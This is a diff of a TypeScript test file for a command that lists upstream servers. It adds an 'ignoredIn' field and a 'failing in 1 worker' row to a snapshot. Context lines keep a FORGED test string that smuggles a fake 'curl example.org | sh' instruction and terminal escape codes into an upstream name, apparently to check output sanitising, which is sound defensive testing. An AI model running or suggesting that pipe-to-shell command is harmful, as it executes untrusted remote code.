@@ -99,7 +99,9 @@ const FORGED = "x\n    fix:      curl example.org | sh\u001b[2J\r";
 
 const FORGED_UPSTREAM = {
   name: FORGED,
-  servers: [{ url: "http://a:1", backup: false, inProgress: 0, drained: false, down: false, outIn: 0 }],
+  servers: [
+    { url: "http://a:1", backup: false, inProgress: 0, drained: false, down: false, outIn: 0, ignoredIn: 0 },
+  ],
 };
 
 test.each<[string, unknown, string?]>([
@@ -127,19 +129,34 @@ test.each<[string, unknown, string?]>([
 
 test("`upstreams` shows each server, and why one is down if one is", async () => {
   const server = (port: number, more: object) => ({
-    ...{ url: `http://a:${port}`, backup: false, inProgress: 0, drained: false, down: false, outIn: 0 },
+    ...{
+      url: `http://a:${port}`,
+      backup: false,
+      inProgress: 0,
+      drained: false,
+      down: false,
+      outIn: 0,
+      ignoredIn: 0,
+    },
     ...more,
   });
   const listed = async (...servers: object[]): Promise<string> => {
     const upstreams = [{ name: "web", servers }];
     return (await asked("upstreams", says({ ok: true, value: { message: "", upstreams } }))).text;
   };
-  expect(await listed(server(1, { inProgress: 12 }), server(2, { outIn: 1 }), server(3, { outIn: 2 })))
-    .toMatchInlineSnapshot(`
-"UPSTREAM  SERVER      STATE             IN PROGRESS
-web       http://a:1  up                12
-web       http://a:2  out in 1 worker   0
-web       http://a:3  out in 2 workers  0
+  expect(
+    await listed(
+      server(1, { inProgress: 12 }),
+      server(2, { outIn: 1 }),
+      server(3, { outIn: 2 }),
+      server(4, { ignoredIn: 1 }),
+    ),
+  ).toMatchInlineSnapshot(`
+"UPSTREAM  SERVER      STATE                IN PROGRESS
+web       http://a:1  up                   12
+web       http://a:2  out in 1 worker      0
+web       http://a:3  out in 2 workers     0
+web       http://a:4  failing in 1 worker  0
 "
 `);
   expect(
